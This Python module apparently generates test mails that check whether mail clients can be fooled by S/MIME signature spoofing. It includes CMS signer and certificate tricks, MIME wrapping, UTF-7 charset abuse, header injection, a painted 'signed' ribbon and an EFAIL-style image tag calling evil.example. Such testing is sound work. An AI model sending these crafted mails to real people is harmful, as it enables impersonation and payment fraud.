"""attacks.py: mails by somebody who has a signed mail of Alice's, and wants to be believed in her name

    mail = attacks.make("preamble")

What Alice signed says SIGNED; what the attacker wrote, and no signature covers,
says HOSTILE.  So whoever shows HOSTILE beside a green ribbon was deceived.
Names in the table are those of the data cases "attack-NAME" as well.  The
certificates live as long as those of the samples: mail clients judge today.
"""
import base64
import contextvars

import cms
import der
import mail
import pki
from mail import CRLF, detached, entity, letter, multipart, text

LIFE = {"begins": "2026-01-01", "ends": "2035-12-31T23:59:59"}
SIGNED, HOSTILE = "signed-by-alice", "written-by-mallory"
# The same in UTF-7 (RFC 2152), in which nobody reads it who takes it for ASCII.
HOSTILE_UTF_7 = "+AHcAcgBpAHQAdABlAG4ALQBiAHkALQBtAGEAbABsAG8AcgB5-"
ALICE, MALLORY = "Alice Sato <alice@example.com>", "mallory@evil.example"
CALL = f"Your account was closed {HOSTILE}"
_name = contextvars.ContextVar("name")


def alice(**more):
    return pki.person("alice@example.com", **{**LIFE, **more})


def mallory():
    return pki.person(MALLORY, **LIFE)


def hers():
    """What she signed; no two mails have the same signature."""
    return text(f"Hello Bob,\n\nthis is {SIGNED} ({_name.get()}).\n\nAlice\n")


def his(kind="plain"):
    words = f"Please pay to the new account, {HOSTILE}.\n"
    return text(f"<p>{words}</p>" if kind == "html" else words, kind)


def sent(body, **more):
    return letter(body, **{"sender": ALICE, "subject": f"Attack {_name.get()}", **more})


def clear(signed=None, **shape):
    """Her clear-signed entity."""
    return detached(signed or hers(), alice(), shape=shape)


def around(*parts, kind="mixed", **more):
    return sent(multipart(kind, *parts, **more))


def with_field(*lines):
    return sent(clear(), after=lines)


def with_version(value):
    """Text above the first part, which a program shows for which the mail is not MIME."""
    return sent(clear(preamble=CALL.encode()), version=False, after=[f"MIME-Version: {value}"] if value else [])


def with_preamble(octets):
    return sent(clear(preamble=octets))


def with_signature_fields(content_type='name="smime.p7s"', *fields):
    """Her signature under fields of the attacker's: nothing signs those."""
    signed = hers()
    octets = cms.signed_data(signed, [alice()], detached=True)
    lines = [f"Content-Type: application/pkcs7-signature; {content_type}".rstrip("; "), "Content-Transfer-Encoding: base64", *fields]
    part = CRLF.join(line.encode() for line in lines) + CRLF * 2 + mail.wrap(base64.b64encode(octets))
    return sent(multipart("signed", signed, part, parameters=' protocol="application/pkcs7-signature"; micalg=sha-256;'))


def in_one_piece(file_name="smime.p7m", said='application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"', more=()):
    octets = cms.signed_data(hers(), [alice()], detached=False)
    return sent(entity(said, octets, "base64", disposition=f'attachment; filename="{file_name}"', more=more))


def with_root(before, after, body=None):
    """Her mail with another Content-Type at its root."""
    whole = sent(body or clear())
    assert before in whole
    return whole.replace(before, after, 1)


def in_letters_of_utf_7():
    """A text without a charset that says something else in UTF-7."""
    return entity("text/plain", mail.octets(f"Hello, {HOSTILE_UTF_7} {SIGNED} {_name.get()}\n"))


def in_utf_7():
    """The same, signed in one piece."""
    return in_one_entity(in_letters_of_utf_7())


def in_one_entity(signed):
    octets = cms.signed_data(signed, [alice()], detached=False)
    return entity('application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"', octets, "base64")


def boundary_of(body):
    return body.split(b'boundary="', 1)[1].split(b'"', 1)[0]


# --- cryptography ---


def two_contents():
    """C1: the signature carries what Alice wrote, the part beside it is another."""
    octets = cms.signed_data(hers(), [alice()], detached=False)
    return sent(mail.detached_entity(his(), octets))


def second_signer():
    """C2: Mallory signs his text, and adds what Alice signed elsewhere."""
    infos = [cms.signer_info(his(), cms.Signer(mallory())), cms.signer_info(hers(), cms.Signer(alice()))]
    return sent(mail.detached_entity(his(), cms.signed_data(his(), [mallory(), alice()], detached=True, infos=infos)))


def no_signer():
    """C3: certificates, and nobody who signs."""
    return sent(mail.detached_entity(his(), cms.signed_data(his(), [], detached=True, certificates=[alice().der])))


def issued_by_a_person():
    """C4: Mallory's own certificate as the issuer of Alice's."""
    below = pki.person("alice@example.com", issuer=mallory(), **LIFE)
    return sent(detached(his(), below))


def second_content_type():
    """Two content-type attributes."""
    content = his()
    return sent(detached(content, cms.Signer(alice(), attributes=[cms.content_type(), cms.content_type(cms.SIGNED_DATA),
                                                                 cms.message_digest(content)], spoil="signature")))


def attributes_for_content():
    """Attribute confusion (RFC 8933 section 1): her signed attributes as the content that she signed without any."""
    signed = hers()
    attributes = der.set_of(*cms.standard_attributes(signed, cms.Signer(alice())))
    return sent(mail.opaque(attributes, cms.Signer(alice(), attributes=False)))


# --- parts beside, above and around ---


def wrapped(*lines):
    return mail.forwarded(sent(clear(), after=lines))


def partial():
    """A piece of a message (RFC 2046 section 5.2.2), which some programs put together."""
    return sent(entity('message/partial; id="x@evil.example"; number=1; total=1', sent(clear())))


def external():
    """A body that lies elsewhere (RFC 2046 section 5.2.3)."""
    inner = f"Content-Type: text/html\r\nContent-ID: <{HOSTILE}@evil.example>\r\n\r\n".encode()
    return entity('message/external-body; access-type=URL; URL="http://evil.example/"', inner)


def uuencoded(words=HOSTILE):
    lines = ["begin 644 notice.txt", "#86)C", "`", "end", words]
    return CRLF.join(line.encode() for line in lines)


def opaque_in_detached():
    """Mallory's signature inside hers: both cover the same words."""
    return sent(detached(mail.opaque(hers(), mallory()), alice()))


def signed_by_both():
    """Mallory's signature around hers, her name in From."""
    return sent(detached(multipart("mixed", clear(), his()), mallory()))


def from_inside():
    """A From in the header of the signed part and one of the signature."""
    signed = entity("text/plain; charset=utf-8", mail.octets(f"Hello, {SIGNED} {_name.get()}.\n"), more=[f"From: {ALICE}"])
    return sent(detached(signed, mallory()), sender=f"Mallory <{MALLORY}>")


# --- EFAIL and its kin ---


def torn_tag():
    """A tag that opens before what is signed and closes behind it."""
    return around(text('<img src="http://evil.example/', "html"), clear(), text(f'"><p>{HOSTILE}</p>', "html"))


def sealed_beside():
    return around(his("html"), mail.encrypted(cms.enveloped_data(alice())), clear())


# --- the user interface ---

RIBBON = f"""<div style="position:fixed;top:0;left:0;right:0;background:#d5f0df;padding:12px">
<b>Signed by alice@example.com</b></div><p>{HOSTILE}</p>"""

# Fields of the root that one mail client or another gives a meaning to.
ROOT_FIELDS = {
    "description": [f"Content-Description: {CALL}"],
    "disposition": [f'Content-Disposition: attachment; filename="{HOSTILE}.html"'],
    "disposition-inline": [f'Content-Disposition: inline; filename="{HOSTILE}.html"'],
    "location": [f"Content-Location: http://evil.example/{HOSTILE}"],
    "base": [f"Content-Base: http://evil.example/{HOSTILE}"],
    "identity": [f"Content-ID: <{HOSTILE}@evil.example>"],
    "detached-attachment": [f"X-Mozilla-External-Attachment-URL: http://evil.example/{HOSTILE}",
                            'X-Mozilla-Altered: AttachmentDetached; date="Mon Jun 15 09:00:00 2026"'],
    "resent-from": [f"Resent-From: {HOSTILE}@evil.example"],
    "apparently-from": [f"Apparently-From: {HOSTILE}@evil.example"],
    "evolution-fields": [f"X-Evolution-Source: {HOSTILE}", "X-Evolution-Format: text/html"],
    "sun-charset": [f"X-Sun-Charset: {HOSTILE}"],
    "content-encoding": ["Content-Encoding: gzip"],
    "face": [f"X-Face: {HOSTILE}"],
    "draft": ["X-Mozilla-Draft-Info: internal/draft; vcard=0; receipt=0", f"X-Template: {HOSTILE}"],
}
VERSIONS = {"missing": "", "two": "2.0", "old": "0.9", "comment": "1.0 (x)", "comment-first": "(x) 1.0", "blanks": "1 . 0",
            "parameter": "1.0; x", "word": "x"}
PREAMBLES = {
    "text": CALL.encode(),
    "html": f"<html><body>{CALL}</body></html>".encode(),
    "uuencode": uuencoded(),
    "header": f"Content-Type: text/plain\r\n\r\n{CALL}".encode(),
    "mbox": f"\r\nFrom mallory Mon Jun 15 09:00:00 2026\r\nFrom: {MALLORY}\r\nSubject: {CALL}\r\n\r\n{CALL}".encode(),
    "pgp": f"-----BEGIN PGP MESSAGE-----\r\n\r\n{CALL}\r\n-----END PGP MESSAGE-----".encode(),
    "yenc": f"=ybegin line=128 size=3 name={HOSTILE}.txt\r\nabc\r\n=yend size=3".encode(),
    "blanks": b"\r\n \r\n\t" + CALL.encode(),
}
SIGNATURE_FIELDS = {
    "file-name": ['name="smime.p7s"', f'Content-Disposition: attachment; filename="{CALL}.p7s"'],
    "file-name-short": ['name="smime.p7s"', 'Content-Disposition: attachment; filename="pay-0120-555.p7s"'],
    "name": [f'name="{CALL}.p7s"'],
    "description": ['name="smime.p7s"', f"Content-Description: {CALL}"],
    "description-like": ['name="smime.p7s"', "Content-Description: S/MIME signature, call 0120-555-555 today"],
    "inline": [f'name="{HOSTILE}.p7s"', "Content-Disposition: inline", f"Content-Description: {CALL}"],
    "identity": ['name="smime.p7s"', f"Content-ID: <{HOSTILE}>", f"Content-Location: http://evil.example/{HOSTILE}"],
    "detached-attachment": ['name="smime.p7s"', f"X-Mozilla-External-Attachment-URL: http://evil.example/{HOSTILE}",
                            'X-Mozilla-Altered: AttachmentDetached; date="Mon Jun 15 09:00:00 2026"'],
    "subject": ['name="smime.p7s"', f"Subject: {CALL}", f"From: {HOSTILE}@evil.example"],
    "usual-description": ['name="smime.p7s"', "Content-Description: S/MIME Cryptographic Signature"],
}

ATTACKS = {
    "plain-copy": lambda: sent(clear()),
    "two-contents": two_contents,
    "second-signer": second_signer,
    "no-signer": no_signer,
    "issued-by-a-person": issued_by_a_person,
    "second-content-type": second_content_type,
    "attributes-for-content": attributes_for_content,
    "before": lambda: around(his(), clear()),
    "behind": lambda: around(clear(), his()),
    "epilogue": lambda: sent(clear(epilogue=CALL.encode())),
    "no-end": lambda: sent(clear()).rstrip().rsplit(b"--", 1)[0] + CRLF + CALL.encode() + CRLF,
    "related": lambda: around(text(f'<p>{HOSTILE}</p><img src="cid:hers">', "html"), clear(), kind="related"),
    "related-named": lambda: around(his("html"), b"Content-ID: <hers>\r\n" + clear(), kind="related"),
    "hidden-with-page": lambda: around(text(f'<b>{HOSTILE}</b><div style="display:none"><plaintext>', "html"), clear()),
    "signed-as-attachment": lambda: around(his(), b'Content-Disposition: attachment; filename="smime.p7s"\r\n' + clear()),
    "alternative-first": lambda: around(clear(), his("html"), kind="alternative"),
    "alternative-last": lambda: around(his(), clear(), kind="alternative"),
    "digest": lambda: around(CRLF + sent(clear()), kind="digest"),
    "parallel": lambda: around(clear(), his(), kind="parallel"),
    "appledouble": lambda: around(his(), clear(), kind="appledouble"),
    "replaced": lambda: around(clear(), his("html"), kind="x-mixed-replace"),
    "form-data": lambda: around(his(), clear(), kind="form-data"),
    "report": lambda: around(his(), clear(), kind="report"),
    "voice": lambda: around(his(), clear(), kind="voice-message"),
    "external-beside": lambda: around(external(), clear()),
    "external-root": lambda: sent(external()),
    "partial-message": partial,
    "uuencode-beside": lambda: around(entity("text/plain", uuencoded()), clear()),
    "tnef-beside": lambda: around(clear(), mail.attachment("winmail.dat", "application/ms-tnef",
                                                           b"\x78\x9f\x3e\x22\x01\x00" + HOSTILE.encode())),
    "yenc-beside": lambda: around(entity("text/plain", PREAMBLES["yenc"]), clear()),
    "forwarded-alone": lambda: sent(mail.forwarded(sent(clear()))),
    "forwarded-no": lambda: sent(mail.forwarded(sent(clear()), "forwarded=no")),
    "forwarded-beside": lambda: around(his(), wrapped()),
    "opaque-in-detached": opaque_in_detached,
    "signed-by-both": signed_by_both,
    "from-inside": from_inside,
    "torn-tag": torn_tag,
    "sealed-beside": sealed_beside,
    "painted-ribbon": lambda: sent(text(RIBBON, "html")),
    "root-charset": lambda: with_root(b"multipart/signed;", b"multipart/signed; charset=utf-7;", clear(in_letters_of_utf_7())),
    "root-sun-utf-7": lambda: sent(clear(in_letters_of_utf_7()), after=["X-Sun-Charset: utf-7"]),
    "opaque-charset": lambda: with_root(b"smime-type=signed-data;", b"smime-type=signed-data; charset=utf-7;", in_utf_7()),
    "opaque-flowed": lambda: with_root(b"smime-type=signed-data;", b"smime-type=signed-data; format=flowed; delsp=yes;",
                                       in_one_entity(text(f"Hello,\n\nwritten-by- \nmallory {SIGNED} {_name.get()}\n"))),
    "opaque-sun-charset": lambda: with_root(b"MIME-Version:", b"X-Sun-Charset: utf-7\r\nMIME-Version:", in_utf_7()),
    "root-name": lambda: with_root(b"multipart/signed;", f'multipart/signed; name="{HOSTILE}.html";'.encode()),
    "root-start": lambda: with_root(b"multipart/signed;", b'multipart/signed; type="text/html"; start="<x>";'),
    "opaque-copy": in_one_piece,
    "opaque-file-name": lambda: in_one_piece(f"{CALL}.p7m"),
    "opaque-name": lambda: in_one_piece(said=f'application/pkcs7-mime; smime-type=signed-data; name="{CALL}.p7m"'),
    "opaque-description": lambda: in_one_piece(more=[f"Content-Description: {CALL}"]),
    "opaque-other-type": lambda: in_one_piece(said='application/pkcs7-mime; smime-type=signed-receipt; name="smime.p7m"'),
    "opaque-no-type": lambda: in_one_piece(said='application/pkcs7-mime; name="smime.p7m"'),
    "opaque-octet-stream": lambda: in_one_piece(said='application/octet-stream; name="smime.p7m"'),
    "sender-field": lambda: with_field(f"Sender: {HOSTILE}@evil.example"),
    **{f"root-{name}": (lambda lines=lines: with_field(*lines)) for name, lines in ROOT_FIELDS.items()},
    **{f"version-{name}": (lambda value=value: with_version(value)) for name, value in VERSIONS.items()},
    **{f"preamble-{name}": (lambda octets=octets: with_preamble(octets)) for name, octets in PREAMBLES.items()},
    **{f"signature-{name}": (lambda fields=fields: with_signature_fields(*fields)) for name, fields in SIGNATURE_FIELDS.items()},
}


def call(name):
    """What stands in the text that she signs, and in the subject."""
    _name.set(name)


def make(name):
    call(name)
    return ATTACKS[name]()


def names():
    return list(ATTACKS)
